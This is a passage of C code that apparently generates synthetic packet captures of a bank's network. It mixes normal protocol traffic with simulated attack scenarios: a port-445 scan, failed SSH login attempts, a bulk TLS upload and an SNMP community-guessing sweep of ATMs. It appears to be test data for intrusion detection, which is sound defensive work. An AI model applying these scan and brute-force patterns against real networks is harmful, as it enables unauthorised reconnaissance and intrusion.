static size_t ber_open(struct gen_buf *b, uint8_t tag)
{
    gen_u8(b, tag);
    return gen_mark(b, 1);
}

static void ber_int(struct gen_buf *b, uint32_t v)
{
    gen_u8(b, 0x02);
    gen_u8(b, 4);
    gen_u32(b, v);
}

/* GetRequest (0xa0) or Response (0xa2) for sysUpTime.0, community "public". */
static void snmp_msg(struct gen_buf *b, bool response, uint32_t reqid, uint32_t uptime)
{
    static const uint8_t oid[] = {0x06, 0x08, 0x2b, 0x06, 0x01, 0x02, 0x01, 0x01, 0x03, 0x00};
    static const uint8_t head[] = {0x02, 0x01, 0x01,                /* version v2c */
                                   0x04, 0x06, 'p', 'u', 'b', 'l', 'i', 'c'};
    size_t msg, pdu, list, vb;

    msg = ber_open(b, 0x30);
    gen_put(b, head, sizeof(head));
    pdu = ber_open(b, response ? 0xa2 : 0xa0);
    ber_int(b, reqid);
    gen_put(b, "\x02\x01\x00\x02\x01\x00", 6);     /* error-status, error-index */
    list = ber_open(b, 0x30);
    vb = ber_open(b, 0x30);
    gen_put(b, oid, sizeof(oid));
    if (response) {
        gen_u8(b, 0x43);    /* TimeTicks */
        gen_u8(b, 4);
        gen_u32(b, uptime);
    } else {
        gen_put(b, "\x05\x00", 2);
    }
    gen_patch_len(b, vb, 1);
    gen_patch_len(b, list, 1);
    gen_patch_len(b, pdu, 1);
    gen_patch_len(b, msg, 1);
}

/* FIX 4.2 message: header (8, 9), 35 and the session fields, body fields
 * ("tag=value" joined by SOH, ending with SOH), trailer 10 = byte sum mod 256.
 * bad_csum adds one to the checksum. Returns the length written to out. */
struct fix_hdr {
    const char *type;       /* 35 */
    const char *sender;     /* 49 */
    const char *target;     /* 56 */
    unsigned seq;           /* 34 */
    uint64_t ts;            /* 52 */
};

/* UTCTimestamp "20261102-09:00:16.001" into buf (>= 24 bytes). */
static void fix_stamp(uint64_t ts, char *buf, size_t len)
{
    time_t sec = (time_t)(ts / GEN_SEC);
    char day[24];
    struct tm tm;

    gmtime_r(&sec, &tm);
    strftime(day, sizeof(day), "%Y%m%d-%H:%M:%S", &tm);
    snprintf(buf, len, "%s.%03u", day, (unsigned)(ts % GEN_SEC / 1000));
}

static size_t fix_msg(char *out, size_t cap, const struct fix_hdr *h, const char *body,
                      bool bad_csum)
{
    char part[1024], stamp[32];
    unsigned sum = 0;
    int n, m;
    int i;

    fix_stamp(h->ts, stamp, sizeof(stamp));
    n = snprintf(part, sizeof(part), "35=%s\00149=%s\00156=%s\00134=%u\00152=%s\001%s",
                 h->type, h->sender, h->target, h->seq, stamp, body);
    if (n < 0 || (size_t)n >= sizeof(part))
        return 0;
    m = snprintf(out, cap, "8=FIX.4.2\0019=%d\001%s", n, part);
    if (m < 0 || (size_t)m + 8 > cap)
        return 0;
    for (i = 0; i < m; i++)
        sum += (uint8_t)out[i];
    sum = (sum + (bad_csum ? 1 : 0)) % 256;
    n = snprintf(out + m, cap - (size_t)m, "10=%03u\001", sum);
    return (size_t)m + (size_t)n;
}

/* SSH binary packet around payload p (no MAC: before NEWKEYS). */
static void ssh_packet(struct gen_ctx *g, struct gen_buf *b, const struct gen_buf *p)
{
    size_t pad = 8 - (5 + p->len) % 8;

    if (pad < 4)
        pad += 8;
    gen_u32(b, (uint32_t)(1 + p->len + pad));
    gen_u8(b, (uint8_t)pad);
    gen_put(b, p->b, p->len);
    gen_rnd(g, b, pad);
}

static void ssh_namelist(struct gen_buf *b, const char *s)
{
    gen_u32(b, (uint32_t)strlen(s));
    gen_str(b, s);
}

static void ssh_kexinit(struct gen_ctx *g, struct gen_buf *b)
{
    static const char *lists[10] = {
        "curve25519-sha256,ecdh-sha2-nistp256,diffie-hellman-group14-sha256",
        "ssh-ed25519,rsa-sha2-512,rsa-sha2-256",
        "chacha20-poly1305@openssh.com,aes128-ctr,aes256-gcm@openssh.com",
        "chacha20-poly1305@openssh.com,aes128-ctr,aes256-gcm@openssh.com",
        "hmac-sha2-256-etm@openssh.com,hmac-sha2-256,hmac-sha1",
        "hmac-sha2-256-etm@openssh.com,hmac-sha2-256,hmac-sha1",
        "none,zlib@openssh.com", "none,zlib@openssh.com", "", "",
    };
    uint8_t mem[1024];
    struct gen_buf p;
    size_t i;

    gen_buf_init(&p, mem, sizeof(mem));
    gen_u8(&p, 20);         /* SSH_MSG_KEXINIT */
    gen_rnd(g, &p, 16);     /* cookie */
    for (i = 0; i < GEN_N(lists); i++)
        ssh_namelist(&p, lists[i]);
    gen_u8(&p, 0);          /* first_kex_packet_follows */
    gen_u32(&p, 0);
    ssh_packet(g, b, &p);
}

/* A message of type 'type' with n random bytes of body (key exchange values). */
static void ssh_simple(struct gen_ctx *g, struct gen_buf *b, uint8_t type, size_t n)
{
    uint8_t mem[1024];
    struct gen_buf p;

    gen_buf_init(&p, mem, sizeof(mem));
    gen_u8(&p, type);
    gen_rnd(g, &p, n);
    ssh_packet(g, b, &p);
}

/* ---------------------------------------------------------------------------
 * Windows protocols: SMB2 NEGOTIATE (MS-SMB2), DCE/RPC bind (C706), RDP X.224
 * connection request (MS-RDPBCGR). Little-endian bodies unless noted.
 * ------------------------------------------------------------------------- */

/* NetBIOS session header + 64-byte SMB2 header for command 0 (NEGOTIATE). */
static size_t smb2_begin(struct gen_buf *b, bool response)
{
    size_t nb;

    gen_u8(b, 0x00);        /* NetBIOS session message; 24-bit BE length follows */
    nb = gen_mark(b, 3);
    gen_put(b, "\xfeSMB", 4);
    gen_u16le(b, 64);       /* StructureSize */
    gen_u16le(b, 0);        /* CreditCharge */
    gen_u32le(b, 0);        /* Status */
    gen_u16le(b, 0);        /* Command: NEGOTIATE */
    gen_u16le(b, 1);        /* Credits */
    gen_u32le(b, response ? 1 : 0);    /* Flags: SERVER_TO_REDIR */
    gen_u32le(b, 0);        /* NextCommand */
    gen_zero(b, 8);         /* MessageId 0 */
    gen_zero(b, 4 + 4 + 8 + 16);       /* Reserved, TreeId, SessionId, Signature */
    return nb;
}

static void smb2_negotiate(struct gen_ctx *g, struct gen_buf *b, bool response)
{
    static const uint16_t dialects[] = {0x0202, 0x0210, 0x0300, 0x0302};
    size_t nb = smb2_begin(b, response);
    size_t i;

    if (!response) {
        gen_u16le(b, 36);
        gen_u16le(b, (uint16_t)GEN_N(dialects));
        gen_u16le(b, 1);    /* SecurityMode: signing enabled */
        gen_u16le(b, 0);
        gen_u32le(b, 0x7f); /* Capabilities */
        gen_rnd(g, b, 16);  /* ClientGuid */
        gen_zero(b, 8);     /* ClientStartTime */
        for (i = 0; i < GEN_N(dialects); i++)
            gen_u16le(b, dialects[i]);
    } else {
        gen_u16le(b, 65);
        gen_u16le(b, 1);
        gen_u16le(b, 0x0302);           /* chosen dialect: SMB 3.0.2 */
        gen_u16le(b, 0);
        gen_rnd(g, b, 16);              /* ServerGuid */
        gen_u32le(b, 0x2f);
        gen_u32le(b, 8388608);          /* MaxTransact, MaxRead, MaxWrite */
        gen_u32le(b, 8388608);
        gen_u32le(b, 8388608);
        gen_rnd(g, b, 16);              /* SystemTime, ServerStartTime */
        gen_u16le(b, 0x80);             /* SecurityBufferOffset */
        gen_u16le(b, 0);                /* SecurityBufferLength */
        gen_u32le(b, 0);
    }
    gen_patch_len(b, nb, 3);
}

static void dce_uuid(struct gen_buf *b, uint32_t a, uint16_t w1, uint16_t w2,
                     const uint8_t tail[8])
{
    gen_u32le(b, a);
    gen_u16le(b, w1);
    gen_u16le(b, w2);
    gen_put(b, tail, 8);
}

static void dce_ndr(struct gen_buf *b)
{
    static const uint8_t ndr[8] = {0x9f, 0xe8, 0x08, 0x00, 0x2b, 0x10, 0x48, 0x60};

    dce_uuid(b, 0x8a885d04, 0x1ceb, 0x11c9, ndr);
    gen_u32le(b, 2);
}

/* bind (ptype 11) to the endpoint mapper, or its bind_ack (ptype 12). */
static void dce_bind(struct gen_buf *b, bool ack, uint32_t call_id)
{
    static const uint8_t epm[8] = {0x91, 0xa4, 0x08, 0x00, 0x2b, 0x14, 0xa0, 0xfa};
    size_t start = b->len, flen;

    gen_put(b, ack ? "\x05\x00\x0c\x03" : "\x05\x00\x0b\x03", 4);
    gen_put(b, "\x10\x00\x00\x00", 4);  /* data representation: little-endian */
    flen = gen_mark(b, 2);
    gen_u16le(b, 0);        /* auth length */
    gen_u32le(b, call_id);
    gen_u16le(b, 5840);
    gen_u16le(b, 5840);
    gen_u32le(b, ack ? 0x1234 : 0);    /* assoc group */
    if (ack) {
        gen_u16le(b, 4);
        gen_put(b, "135\0", 4);         /* secondary address, already 4-aligned */
        gen_put(b, "\x01\x00\x00\x00", 4);
        gen_u16le(b, 0);                /* result: acceptance */
        gen_u16le(b, 0);
    } else {
        gen_put(b, "\x01\x00\x00\x00", 4);
        gen_put(b, "\x00\x00\x01\x00", 4);  /* context 0, one transfer syntax */
        dce_uuid(b, 0xe1af8308, 0x5d1f, 0x11c9, epm);
        gen_u32le(b, 3);
    }
    dce_ndr(b);
    gen_patch_u16le(b, flen, (uint16_t)(b->len - start));
}

/* TPKT + X.224 Connection Request with cookie and RDP_NEG_REQ (TLS|CredSSP), or
 * the Connection Confirm with RDP_NEG_RSP choosing TLS. */
static void rdp_x224(struct gen_buf *b, bool confirm, const char *user)
{
    size_t tpkt, li;

    gen_u16(b, 0x0300);
    tpkt = gen_mark(b, 2);
    li = gen_mark(b, 1);
    gen_u8(b, confirm ? 0xd0 : 0xe0);
    gen_u16(b, 0);
    gen_u16(b, confirm ? 0x1234 : 0);
    gen_u8(b, 0);
    if (!confirm) {
        gen_str(b, "Cookie: mstshash=");
        gen_str(b, user);
        gen_str(b, "\r\n");
    }
    gen_put(b, confirm ? "\x02\x00\x08\x00\x01\x00\x00\x00" : "\x01\x00\x08\x00\x03\x00\x00\x00",
            8);
    gen_patch_len(b, li, 1);
    if (!b->overflow) {
        size_t total = b->len - tpkt + 2;
        b->b[tpkt] = (uint8_t)(total >> 8);     /* TPKT length covers its own header */
        b->b[tpkt + 1] = (uint8_t)total;
    }
}

/* ---------------------------------------------------------------------------
 * Activities: one complete exchange each, starting at g->now and leaving g->now
 * at its end. Scenarios compose them.
 * ------------------------------------------------------------------------- */

#define RESOLVER IP4(10, 10, 0, 53)

static uint32_t gen_hash(const char *s)
{
    uint32_t h = 2166136261u;

    while (*s != '\0')
        h = (h ^ (uint8_t)*s++) * 16777619u;
    return h;
}

/* Stable documentation-range address for a name (198.51.100.0/24, 203.0.113.0/24). */
static uint32_t gen_name_ip(const char *name)
{
    uint32_t h = gen_hash(name);

    return ((h >> 8) & 1 ? IP4(198, 51, 100, 0) : IP4(203, 0, 113, 0)) | (1 + h % 250);
}

/* A/AAAA (or TXT when txt != NULL) lookup from cip to the internal resolver. */
static void act_dns(struct gen_ctx *g, uint32_t cip, const char *name, uint16_t qtype,
                    const char *txt)
{
    uint8_t mem[1500];
    struct gen_buf b;
    struct gen_ep c = {cip, gen_eport(g)}, s = {RESOLVER, 53};
    uint16_t id = (uint16_t)gen_rand(g);
    uint32_t ip = gen_name_ip(name);

    gen_buf_init(&b, mem, sizeof(mem));
    dns_begin(&b, id, 0x0100, 0, name, qtype);
    gen_udp(g, &c, &s, b.b, b.len);
    gen_tick(g, gen_range(g, 400, 30000));  /* cache hit .. recursion */
    gen_buf_init(&b, mem, sizeof(mem));
    dns_begin(&b, id, 0x8180, 1, name, qtype);
    if (qtype == DNS_A) {
        uint8_t a[4] = {(uint8_t)(ip >> 24), (uint8_t)(ip >> 16), (uint8_t)(ip >> 8),
                        (uint8_t)ip};
        dns_rr(&b, DNS_A, 300, a, 4);
    } else if (qtype == DNS_AAAA) {
        uint8_t a[16] = {0x20, 0x01, 0x0d, 0xb8};
        a[14] = (uint8_t)(ip >> 8);
        a[15] = (uint8_t)ip;
        dns_rr(&b, DNS_AAAA, 300, a, 16);
    } else {
        dns_txt_rr(&b, 0, txt ? txt : "");
    }
    gen_udp(g, &s, &c, b.b, b.len);
    gen_tick(g, 200);
}

/* Full TLS 1.3 session from cip to sip:443 with SNI: handshake, nreq
 * request/response pairs of ciphertext, FIN from the client. */
struct tls_plan {
    const char *sni;
    unsigned nreq;
    size_t req_min, req_max;    /* request record sizes */
    size_t resp_min, resp_max;  /* response record sizes */
    uint64_t rtt;
};

static void act_tls(struct gen_ctx *g, uint32_t cip, uint32_t sip, const struct tls_plan *p)
{
    uint8_t mem[GEN_PAYLOAD_MAX];
    struct gen_buf b;
    struct gen_tcp t;
    unsigned i;

    gen_tcp_init(g, &t, cip, sip, 443, p->rtt);
    gen_tcp_open(g, &t);
    gen_buf_init(&b, mem, sizeof(mem));
    tls_client_hello(g, &b, p->sni);
    gen_tcp_send(g, &t, GEN_C2S, b.b, b.len);
    gen_buf_init(&b, mem, sizeof(mem));
    tls_server_flight(g, &b, gen_range(g, 2400, 3600));
    gen_tcp_send(g, &t, GEN_S2C, b.b, b.len);
    gen_buf_init(&b, mem, sizeof(mem));
    tls_client_finished(g, &b);
    gen_tcp_send(g, &t, GEN_C2S, b.b, b.len);
    for (i = 0; i < p->nreq; i++) {
        gen_buf_init(&b, mem, sizeof(mem));
        tls_app_record(g, &b, gen_range(g, p->req_min, p->req_max));
        gen_tcp_send(g, &t, GEN_C2S, b.b, b.len);
        gen_tick(g, gen_range(g, 2000, 40000));    /* server think time */
        gen_buf_init(&b, mem, sizeof(mem));
        tls_app_record(g, &b, gen_range(g, p->resp_min, p->resp_max));
        gen_tcp_send(g, &t, GEN_S2C, b.b, b.len);
        gen_tick(g, gen_range(g, 1000, 200000));
    }
    gen_tcp_close(g, &t, GEN_C2S);
}

/* TLS upload: handshake, then 'bytes' of ciphertext at 'rate' (captured 64 bytes
 * per frame), a short reply, FIN. */
static void act_tls_upload(struct gen_ctx *g, uint32_t cip, uint32_t sip, const char *sni,
                           uint64_t bytes, uint64_t rate)
{
    struct tls_plan p = {sni, 0, 0, 0, 0, 0, 30000};
    uint8_t mem[64];
    struct gen_buf b;
    struct gen_tcp t;

    gen_tcp_init(g, &t, cip, sip, 443, p.rtt);
    gen_tcp_open(g, &t);
    {
        uint8_t hs[GEN_PAYLOAD_MAX];
        gen_buf_init(&b, hs, sizeof(hs));
        tls_client_hello(g, &b, sni);
        gen_tcp_send(g, &t, GEN_C2S, b.b, b.len);
        gen_buf_init(&b, hs, sizeof(hs));
        tls_server_flight(g, &b, 2800);
        gen_tcp_send(g, &t, GEN_S2C, b.b, b.len);
        gen_buf_init(&b, hs, sizeof(hs));
        tls_client_finished(g, &b);
        gen_tcp_send(g, &t, GEN_C2S, b.b, b.len);
    }
    gen_tcp_bulk(g, &t, GEN_C2S, bytes, rate);
    gen_buf_init(&b, mem, sizeof(mem));
    tls_app_record(g, &b, 40);
    gen_tcp_send(g, &t, GEN_S2C, b.b, b.len);
    gen_tcp_close(g, &t, GEN_C2S);
}

static void act_ntp(struct gen_ctx *g, uint32_t cip, uint32_t sip)
{
    uint8_t mem[48];
    struct gen_buf b;
    struct gen_ep c = {cip, 123}, s = {sip, 123};
    uint64_t t0 = g->now;

    gen_buf_init(&b, mem, sizeof(mem));
    ntp_msg(&b, false, 0, g->now);
    gen_udp(g, &c, &s, b.b, b.len);
    gen_tick(g, gen_range(g, 150, 600));
    gen_buf_init(&b, mem, sizeof(mem));
    ntp_msg(&b, true, t0, g->now);
    gen_udp(g, &s, &c, b.b, b.len);
}

static void act_snmp(struct gen_ctx *g, uint32_t mgr, uint32_t agent, uint32_t uptime)
{
    uint8_t mem[128];
    struct gen_buf b;
    struct gen_ep c = {mgr, gen_eport(g)}, s = {agent, 161};
    uint32_t reqid = (uint32_t)gen_rand(g) & 0x7fffffff;

    gen_buf_init(&b, mem, sizeof(mem));
    snmp_msg(&b, false, reqid, 0);
    gen_udp(g, &c, &s, b.b, b.len);
    gen_tick(g, gen_range(g, 300, 3000));
    gen_buf_init(&b, mem, sizeof(mem));
    snmp_msg(&b, true, reqid, uptime);
    gen_udp(g, &s, &c, b.b, b.len);
}

/* ---- FIX 4.2 session: logon, heartbeats, orders, execution reports, logout ---- */

struct fix_sess {
    struct gen_tcp t;
    const char *client_id;  /* SenderCompID of the initiator */
    const char *venue_id;   /* the exchange gateway's CompID */
    unsigned cseq, sseq;    /* next MsgSeqNum each side sends */
    unsigned orders;
};

static void fix_send(struct gen_ctx *g, struct fix_sess *f, enum gen_dir dir, const char *type,
                     const char *body, bool bad_csum)
{
    char msg[1200];
    bool c2s = dir == GEN_C2S;
    struct fix_hdr h = {type, c2s ? f->client_id : f->venue_id,
                        c2s ? f->venue_id : f->client_id, c2s ? f->cseq++ : f->sseq++,
                        g->now};
    size_t n = fix_msg(msg, sizeof(msg), &h, body, bad_csum);

    if (n > 0)
        gen_tcp_send(g, &f->t, dir, (const uint8_t *)msg, n);
}

static void fix_logon(struct gen_ctx *g, struct fix_sess *f, uint32_t cip, uint32_t sip)
{
    gen_tcp_init(g, &f->t, cip, sip, 9878, 300);
    f->cseq = f->sseq = 1;
    f->orders = 0;
    gen_tcp_open(g, &f->t);
    fix_send(g, f, GEN_C2S, "A", "98=0\001108=30\001", false);
    gen_tick(g, 800);
    fix_send(g, f, GEN_S2C, "A", "98=0\001108=30\001", false);
}

static void fix_heartbeats(struct gen_ctx *g, struct fix_sess *f)
{
    fix_send(g, f, GEN_C2S, "0", "", false);
    gen_tick(g, gen_range(g, 1000, 50000));
    fix_send(g, f, GEN_S2C, "0", "", false);
}

/* New order single and the venue's acknowledgement (ExecType 0 = new). */
static void fix_order(struct gen_ctx *g, struct fix_sess *f, bool bad_csum)
{
    static const char *syms[] = {"EURUSD", "GBPUSD", "MSFT", "IBM", "BUND"};
    const char *sym = syms[gen_range(g, 0, GEN_N(syms) - 1)];
    unsigned qty = (unsigned)gen_range(g, 1, 50) * 100;
    unsigned px = (unsigned)gen_range(g, 100, 9999);
    char body[400], stamp[32];

    f->orders++;
    fix_stamp(g->now, stamp, sizeof(stamp));
    snprintf(body, sizeof(body),
             "11=ORD%05u\00121=1\00155=%s\00154=%u\00160=%s\00138=%u\00140=2\00144=%u.%02u\001",
             f->orders, sym, 1 + f->orders % 2, stamp, qty, px / 100, px % 100);
    fix_send(g, f, GEN_C2S, "D", body, bad_csum);
    gen_tick(g, gen_range(g, 300, 3000));
    snprintf(body, sizeof(body),
             "37=EX%06u\00117=EXE%06u\00120=0\001150=0\00139=0\00155=%s\00154=%u\001"
             "38=%u\00132=0\00131=0\001151=%u\00114=0\0016=0\001",
             f->orders, f->orders, sym, 1 + f->orders % 2, qty, qty);
    fix_send(g, f, GEN_S2C, "8", body, false);
}

static void fix_logout(struct gen_ctx *g, struct fix_sess *f)
{
    fix_send(g, f, GEN_C2S, "5", "", false);
    gen_tick(g, 500);
    fix_send(g, f, GEN_S2C, "5", "", false);
    gen_tcp_close(g, &f->t, GEN_C2S);
}

/* A trading day in miniature: heartbeats every 30 s both ways, an order every
 * ~20 s, for 'dur' µs. bad_at: order number sent with a bad checksum (0 none). */
static void act_fix(struct gen_ctx *g, struct fix_sess *f, uint32_t cip, uint32_t sip,
                    uint64_t dur, unsigned bad_at)
{
    uint64_t end = g->now + dur, next_hb, next_ord;

    fix_logon(g, f, cip, sip);
    next_hb = g->now + 30 * GEN_SEC;
    next_ord = g->now + gen_range(g, 2, 20) * GEN_SEC;
    while (next_hb < end || next_ord < end) {
        if (next_hb <= next_ord) {
            g->now = next_hb;
            fix_heartbeats(g, f);
            next_hb += 30 * GEN_SEC;
        } else {
            g->now = next_ord;
            fix_order(g, f, f->orders + 1 == bad_at);
            next_ord += gen_range(g, 10, 30) * GEN_SEC;
        }
    }
    g->now = end;
    fix_logout(g, f);
}

/* ---- SSH, Windows services, HTTP, rsync ---- */

/* One failed SSH login: banners, KEXINIT both ways, ECDH, NEWKEYS, three
 * encrypted auth attempts rejected, client closes. */
static void act_ssh_attempt(struct gen_ctx *g, uint32_t cip, uint32_t sip, const char *client)
{
    uint8_t mem[2048];
    struct gen_buf b;
    struct gen_tcp t;
    int i;

    gen_tcp_init(g, &t, cip, sip, 22, 40000);
    gen_tcp_open(g, &t);
    gen_tick(g, 3000);      /* server speaks first */
    gen_buf_init(&b, mem, sizeof(mem));
    gen_str(&b, "SSH-2.0-OpenSSH_8.4p1 Debian-5+deb11u1\r\n");
    gen_tcp_send(g, &t, GEN_S2C, b.b, b.len);
    gen_buf_init(&b, mem, sizeof(mem));
    gen_str(&b, client);
    gen_tcp_send(g, &t, GEN_C2S, b.b, b.len);
    gen_buf_init(&b, mem, sizeof(mem));
    ssh_kexinit(g, &b);
    gen_tcp_send(g, &t, GEN_C2S, b.b, b.len);
    gen_buf_init(&b, mem, sizeof(mem));
    ssh_kexinit(g, &b);
    gen_tcp_send(g, &t, GEN_S2C, b.b, b.len);
    gen_buf_init(&b, mem, sizeof(mem));
    ssh_simple(g, &b, 30, 36);          /* KEX_ECDH_INIT: client key */
    gen_tcp_send(g, &t, GEN_C2S, b.b, b.len);
    gen_buf_init(&b, mem, sizeof(mem));
    ssh_simple(g, &b, 31, 560);         /* KEX_ECDH_REPLY: host key, key, signature */
    ssh_simple(g, &b, 21, 0);           /* NEWKEYS */
    gen_tcp_send(g, &t, GEN_S2C, b.b, b.len);
    gen_buf_init(&b, mem, sizeof(mem));
    ssh_simple(g, &b, 21, 0);
    gen_tcp_send(g, &t, GEN_C2S, b.b, b.len);
    for (i = 0; i < 3; i++) {           /* encrypted: lengths only matter */
        gen_tcp_send(g, &t, GEN_C2S, NULL, (size_t)gen_range(g, 84, 132));
        gen_tick(g, gen_range(g, 20000, 60000));
        gen_tcp_send(g, &t, GEN_S2C, NULL, 52);
    }
    gen_tcp_close(g, &t, GEN_C2S);
}

/* Request/response on an open session, then close. */
static void gen_tcp_exchange(struct gen_ctx *g, struct gen_tcp *t, const struct gen_buf *req,
                             const struct gen_buf *resp)
{
    gen_tcp_send(g, t, GEN_C2S, req->b, req->len);
    gen_tick(g, gen_range(g, 500, 5000));
    gen_tcp_send(g, t, GEN_S2C, resp->b, resp->len);
    gen_tick(g, gen_range(g, 1000, 20000));
    gen_tcp_close(g, t, GEN_C2S);
}

enum win_svc {
    SVC_SMB = 0,            /* 445 */
    SVC_RPC,                /* 135 */
    SVC_RDP,                /* 3389 */
};

/* A first contact to a Windows service: negotiate and hang up. refused: the
 * port answers RST. */
static void act_win(struct gen_ctx *g, uint32_t cip, uint32_t sip, enum win_svc svc,
                    bool refused)
{
    static const uint16_t port[] = {445, 135, 3389};
    uint8_t m1[512], m2[512];
    struct gen_buf req, resp;
    struct gen_tcp t;

    gen_tcp_init(g, &t, cip, sip, port[svc], 600);
    if (refused) {
        gen_tcp_probe(g, &t, 1);
        return;
    }
    gen_tcp_open(g, &t);
    gen_buf_init(&req, m1, sizeof(m1));
    gen_buf_init(&resp, m2, sizeof(m2));
    if (svc == SVC_SMB) {
        smb2_negotiate(g, &req, false);
        smb2_negotiate(g, &resp, true);
    } else if (svc == SVC_RPC) {
        dce_bind(&req, false, 2);
        dce_bind(&resp, true, 2);
    } else {
        rdp_x224(&req, false, "administrator");
        rdp_x224(&resp, true, NULL);
    }
    gen_tcp_exchange(g, &t, &req, &resp);
}

static void act_http_get(struct gen_ctx *g, uint32_t cip, uint32_t sip, const char *host,
                         const char *path, size_t body)
{
    uint8_t m1[512], m2[GEN_PAYLOAD_MAX];
    struct gen_buf req, resp;
    struct gen_tcp t;
    char line[256];

    gen_tcp_init(g, &t, cip, sip, 80, 30000);
    gen_tcp_open(g, &t);
    gen_buf_init(&req, m1, sizeof(m1));
    snprintf(line, sizeof(line), "GET %s HTTP/1.1\r\nHost: %s\r\n", path, host);
    gen_str(&req, line);
    gen_str(&req, "User-Agent: ATMAgent/2.1\r\nAccept: */*\r\nConnection: close\r\n\r\n");
    gen_buf_init(&resp, m2, sizeof(m2));
    snprintf(line, sizeof(line), "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
             "Content-Length: %zu\r\n\r\n", body);
    gen_str(&resp, line);
    gen_rnd(g, &resp, body);
    gen_tcp_exchange(g, &t, &req, &resp);
}

/* rsync daemon protocol greeting, module request, then a bulk push. */
static void act_rsync_backup(struct gen_ctx *g, uint32_t cip, uint32_t sip, uint64_t bytes)
{
    uint8_t mem[64];
    struct gen_buf b;
    struct gen_tcp t;

    gen_tcp_init(g, &t, cip, sip, 873, 400);
    gen_tcp_open(g, &t);
    gen_buf_init(&b, mem, sizeof(mem));
    gen_str(&b, "@RSYNCD: 31.0\n");
    gen_tcp_send(g, &t, GEN_S2C, b.b, b.len);
    gen_tcp_send(g, &t, GEN_C2S, b.b, b.len);
    gen_buf_init(&b, mem, sizeof(mem));
    gen_str(&b, "nightly-db\n");
    gen_tcp_send(g, &t, GEN_C2S, b.b, b.len);
    gen_buf_init(&b, mem, sizeof(mem));
    gen_str(&b, "@RSYNCD: OK\n");
    gen_tcp_send(g, &t, GEN_S2C, b.b, b.len);
    gen_tcp_bulk(g, &t, GEN_C2S, bytes, 110000000);    /* ~1 Gb/s */
    gen_tcp_close(g, &t, GEN_C2S);
}

/* ---------------------------------------------------------------------------
 * Background traffic of a healthy bank (the "benign" scenario and the demo)
 * ------------------------------------------------------------------------- */

struct bg_plan {
    uint64_t start, dur;    /* µs */
    unsigned web_clients;   /* branch workstations browsing the web */
    unsigned snmp_agents;   /* servers polled by 10.10.0.5 every 60 s */
    uint64_t backup_bytes;  /* rsync push inside core-banking */
};

/* Distinct random hosts net + [1, 2^bits - 2], avoiding .0 and .255. */
static void gen_hosts(struct gen_ctx *g, uint32_t net, unsigned bits, uint32_t *out, size_t n)
{
    size_t i = 0, j;

    while (i < n) {
        uint32_t v = net | (uint32_t)gen_range(g, 1, (1u << bits) - 2);

        if ((v & 0xff) == 0 || (v & 0xff) == 255)
            continue;
        for (j = 0; j < i && out[j] != v; j++)
            ;
        if (j == i)
            out[i++] = v;
    }
}

static void bg_web(struct gen_ctx *g, const struct bg_plan *p)
{
    static const char *sites[] = {"www.example.com", "news.example.net", "mail.example.org",
                                  "cdn.example.com", "api.example.net", "docs.example.org"};
    unsigned c;

    for (c = 0; c < p->web_clients; c++) {
        uint32_t cip = IP4(10, 20, 0, 10 + c % 200);
        uint64_t t = p->start + gen_range(g, 0, 60) * GEN_SEC;

        while (t < p->start + p->dur) {
            const char *site = sites[gen_range(g, 0, GEN_N(sites) - 1)];
            struct tls_plan tp = {site, (unsigned)gen_range(g, 1, 3), 300, 900, 800, 6000,
                                  gen_range(g, 8000, 40000)};

            g->now = t;
            act_dns(g, cip, site, DNS_A, NULL);
            act_dns(g, cip, site, DNS_AAAA, NULL);
            act_tls(g, cip, gen_name_ip(site), &tp);
            t += gen_range(g, 90, 300) * GEN_SEC;
        }
    }
}

/* Six core-banking servers keep time against the internal NTP server. */
static void bg_ntp(struct gen_ctx *g, const struct bg_plan *p)
{
    unsigned s;

    for (s = 0; s < 6; s++) {
        uint64_t t = p->start + gen_range(g, 0, 63) * GEN_SEC;

        for (; t < p->start + p->dur; t += 64 * GEN_SEC) {
            g->now = t;
            act_ntp(g, IP4(10, 10, 1, 10 + s), IP4(10, 10, 0, 123));
        }
    }
}

static uint32_t bg_snmp_agent(unsigned i)
{
    static const uint32_t nets[] = {IP4(10, 10, 1, 0), IP4(10, 40, 0, 0), IP4(10, 50, 0, 0)};

    return nets[i % 3] | (10 + i / 3);
}

static void bg_snmp(struct gen_ctx *g, const struct bg_plan *p)
{
    uint64_t t;
    unsigned i;

    for (t = p->start + 5 * GEN_SEC; t < p->start + p->dur; t += 60 * GEN_SEC) {
        for (i = 0; i < p->snmp_agents; i++) {
            g->now = t + i * 40000ull;
            act_snmp(g, IP4(10, 10, 0, 5), bg_snmp_agent(i),
                     (uint32_t)((t - GEN_BASE_US) / 10000 + 8640000u * (i + 1)));
        }
    }
}

static void bg_all(struct gen_ctx *g, const struct bg_plan *p)
{
    struct fix_sess f = {.client_id = "FWBANKOMS", .venue_id = "FWEXCH"};

    bg_web(g, p);
    bg_ntp(g, p);
    bg_snmp(g, p);
    g->now = p->start + 2 * GEN_SEC;
    act_fix(g, &f, IP4(10, 40, 1, 20), IP4(10, 40, 0, 30), p->dur - 10 * GEN_SEC, 0);
    g->now = p->start + p->dur / 6;
    act_rsync_backup(g, IP4(10, 10, 2, 40), IP4(10, 10, 0, 90), p->backup_bytes);
}

/* ---------------------------------------------------------------------------
 * Scenarios. Each starts at 'start' and sizes itself with gen_scaled().
 * ------------------------------------------------------------------------- */

static void scn_benign(struct gen_ctx *g, uint64_t start)
{
    struct bg_plan p = {start, gen_scaled(g, 30) * GEN_MIN, 12, 24,
                        gen_scaled(g, 100) * 1000000ull};

    bg_all(g, &p);
}

/* 10.20.3.77 probes 445 on 300 core-banking hosts in 30 s: 5% open (SYN-ACK, then
 * the scanner's RST), 55% closed (RST), the rest silent. */
static void scn_scan_horizontal(struct gen_ctx *g, uint64_t start)
{
    size_t n = gen_scaled(g, 300), i;
    uint32_t *hosts = calloc(n, sizeof(*hosts));

    if (hosts == NULL) {
        g->failed = true;
        return;
    }
    gen_hosts(g, IP4(10, 10, 0, 0), 16, hosts, n);
    for (i = 0; i < n; i++) {
        struct gen_tcp t;
        unsigned r = (unsigned)gen_range(g, 0, 99);

        g->now = start + i * (30 * GEN_SEC / n);
        gen_tcp_init(g, &t, IP4(10, 20, 3, 77), hosts[i], 445, 800);
        gen_tcp_probe(g, &t, r < 5 ? 2 : r < 60 ? 1 : 0);
    }
    free(hosts);
}

/* 203.0.113.70 sweeps SNMP (161/udp) over 150 ATM hosts in 30 s with a
 * community-guessing GetRequest: 70 % answer port unreachable, 10 % answer
 * (an agent that rejects the community still sends a Response), the rest are
 * silent. The unreachables go from ATMs to an external address, which the
 * zone policy denies: they are the victims' replies, not their connections. */
